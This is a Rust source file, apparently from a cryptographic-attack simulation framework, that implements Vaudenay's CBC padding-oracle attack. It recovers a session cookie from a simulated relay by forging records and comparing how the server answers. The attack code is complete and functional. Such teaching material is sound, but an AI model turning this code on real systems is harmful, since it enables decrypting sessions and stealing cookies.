//! The padding oracle: a block is put at the end of a record, where padding belongs, and the server says whether it looks like
//! padding. Vaudenay, 2002.

use super::{Attacker, BLOCK, letter, records, xor};
use crate::reach::{COOKIE_LEN, Heard, Relay, cookie_at};
use crate::tally::{Tally, Turn};

/// From the cookie's end to its beginning: with the last bytes known, they are made into the padding that the next one needs.
#[derive(Default)]
pub struct PaddingOracle {
    known: Vec<u8>,
    tried: usize,
    /// What the server does with padding that is surely wrong.
    usual: Option<Heard>,
    /// A guess that has to stand a second test, in which nothing but it is the same.
    likely: Option<u8>,
}

impl Attacker<dyn Relay> for PaddingOracle {
    fn advance(&mut self, victim: &mut (dyn Relay + 'static), tally: &mut Tally) -> Turn {
        tally.recovered.resize(COOKIE_LEN, None);
        let Some(usual) = &self.usual else {
            // A byte that no cookie has.
            self.usual = self.ask(victim, 0, tally);
            return if self.usual.is_some() { Turn::Goes } else { Turn::GivesUp };
        };
        let usual = usual.clone();
        let Some(guess) = self.likely.or_else(|| letter(self.tried)) else { return Turn::GivesUp };
        tally.guess = Some((COOKIE_LEN - self.known.len() - 1, guess));
        let Some(heard) = self.ask(victim, guess, tally) else { return Turn::GivesUp };
        let is_padding = (heard.bytes.len(), heard.hung_up) != (usual.bytes.len(), usual.hung_up);
        match (is_padding, self.likely.take()) {
            (true, None) => self.likely = Some(guess),
            (true, Some(_)) => {
                self.known.insert(0, guess);
                self.tried = 0;
                tally.reads(COOKIE_LEN - self.known.len(), guess);
            }
            (false, _) => self.tried += 1,
        }
        if self.known.len() == COOKIE_LEN { Turn::Done } else { Turn::Goes }
    }
}

impl PaddingOracle {
    /// What the server does with a record whose last block is the cookie's, if this guess is the byte before those known.
    fn ask(&self, victim: &mut (dyn Relay + 'static), guess: u8, tally: &mut Tally) -> Option<Heard> {
        tally.tries += 1;
        // The cookie's end at the end of a block.
        let shift = (0..BLOCK).find(|path| (cookie_at(*path) + COOKIE_LEN).is_multiple_of(BLOCK))?;
        let seen = victim.request(&"a".repeat(shift));
        let all = records(&seen);
        let (_, fragment) = *all.last()?;
        let blocks: Vec<&[u8]> = fragment.chunks(BLOCK).collect();
        // One block more: the record begins with its IV.
        let at = (cookie_at(shift) + COOKIE_LEN) / BLOCK;
        let (target, before) = (*blocks.get(at)?, *blocks.get(at - 1)?);
        let padding = vec![self.known.len() as u8; self.known.len() + 1];
        let thought = [&[guess], self.known.as_slice()].concat();
        let mut forged: Vec<u8> = before.iter().map(|byte| byte.wrapping_add(tally.tries as u8 | 0x40)).collect();
        let tail = xor(&xor(&thought, &padding), before.get(BLOCK - padding.len()..)?);
        forged.truncate(BLOCK - tail.len());
        forged.extend(tail);
        // Blocks before it for the MAC that the server looks for, and the same length as ever.
        let record = [blocks.get(..blocks.len().checked_sub(2)?)?.concat(), forged, target.to_vec()].concat();
        let header = seen.get(seen.len().checked_sub(fragment.len() + 5)?..)?.get(..3)?.to_vec();
        let len = u16::try_from(record.len()).ok()?.to_be_bytes();
        Some(victim.deliver(&[header.as_slice(), &len, &record].concat()))
    }
}
